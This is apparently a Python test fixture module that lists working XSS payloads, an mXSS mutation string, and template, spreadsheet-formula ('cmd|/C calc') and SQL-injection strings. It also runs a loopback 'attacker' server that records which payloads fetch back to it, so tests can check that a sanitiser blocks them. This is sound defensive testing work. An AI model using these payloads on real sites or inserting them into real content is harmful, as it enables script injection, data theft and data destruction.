"""Pages that attack their reader: what hostile text tries in a browser, and a server that notices when it succeeds."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

#: name -> markup; ``RUN`` stands for a script that tells the test (see Witness) and the attacker's server, ``LOAD`` for
#: an address of that server. Each is potent by itself, without a visitor's doing: test_hostile shows it.
_ATTACKS: dict[str, str] = {
    "script": "<script>RUN</script>",
    "dialog": "<script>RUN;alert(1)</script>",
    "script-in-mark": "</mark></p></article><ScRiPt>RUN</sCrIpT>",
    "foreign-script": '<script src="LOAD"></script>',
    "image-error": '<img src="data:," onerror="RUN">',
    "image": '<img src="LOAD" alt="a picture">',
    "picture": '<picture><source srcset="LOAD"><img alt=""></picture>',
    "svg": '<svg onload="RUN"></svg>',
    "svg-image": '<svg><image href="LOAD" width="9" height="9"/></svg>',
    "svg-animation": '<svg><a><animate attributeName="x" dur="0.01s" onbegin="RUN"/></a></svg>',
    "toggle": '<details open ontoggle="RUN"><summary>more</summary>story</details>',
    "focus": '<input autofocus onfocus="RUN">',
    "frame": '<iframe src="LOAD"></iframe>',
    "frame-document": '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
    "frame-script": '<iframe src="javascript:RUN"></iframe>',
    "object": '<object data="LOAD"></object>',
    "embed": '<embed src="LOAD">',
    "style": "<style>@import 'LOAD';</style>",
    "style-attribute": '<p style="background: url(LOAD)">story</p>',
    "link": '<link rel="stylesheet" href="LOAD">',
    "poster": '<video poster="LOAD"></video>',
    "refresh": '<meta http-equiv="refresh" content="0; url=LOAD">',
    "base": '<base href="LOAD/"><img src="relative.png" alt="">',
    "title": "</title></textarea></style></select><script>RUN</script>",
    "attribute": "\"'><script>RUN</script>",
    "comment": "<!--><script>RUN</script>-->",
    "unclosed": '<img src="data:,"onerror=RUN ',
}
#: harmless as it stands; what a careless sanitiser makes of it is not
_MUTATION = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=RUN&gt;">'
    '<noscript><p title="</noscript><img src=data:, onerror=RUN>">'
)
#: does nothing until it is followed
LINK = "javascript:RUN"
#: templates of ours and of others would fill these in
TEMPLATES = "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} {{ view.request.app.state.explorer.engine.url }}"
FORMULA = '=HYPERLINK("LOAD","+SUM(1+1)*cmd|/C calc!A0")'
SQL = "'; DROP TABLE articles; -- \" ) OR 1=1"


@dataclass
class Attacker:
    """A server on loopback; ``hits`` are the names of the attacks that reached it."""

    port: int
    hits: list[str] = field(default_factory=list)

    def armed(self, name: str, markup: str) -> str:
        """``markup`` with its script and its address filled in, which both tell under ``name``."""
        address = f"http://127.0.0.1:{self.port}/{name}"
        run = f"window.ran&&ran(`{name}`);fetch(`{address}`,{{mode:`no-cors`}})"
        return markup.replace("RUN", run).replace("LOAD", address)

    def attacks(self) -> dict[str, str]:
        """The markup of every attack by name."""
        return {name: self.armed(name, markup) for name, markup in _ATTACKS.items()}

    def page(self) -> bytes:
        """A page that tries all of them."""
        return f"<!doctype html><html><body>{self.markup()}</body></html>".encode()

    def markup(self) -> str:
        """All of them one after the other, and what turns into one when it is taken apart badly, which swallows what
        follows."""
        return "".join([*self.attacks().values(), self.armed("mutation", _MUTATION)])


@contextmanager
def attacker() -> Iterator[Attacker]:
    """Run an attacker's server until the block ends; ``/control/<name>`` is a page with just that attack."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.owner = owner = Attacker(server.server_address[1])  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield owner
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        owner: Attacker = self.server.owner  # type: ignore[attr-defined]
        place, _, name = self.path.strip("/").partition("/")
        body = b""
        if place == "control":
            markup = owner.attacks().get(name, "")
            body = f"<!doctype html><html><head><title>x</title></head><body>{markup}</body></html>".encode()
        else:
            owner.hits.append(place)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        with contextlib.suppress(ConnectionError):  # a tab that is closed does not wait
            self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Quiet: ``hits`` is the log."""
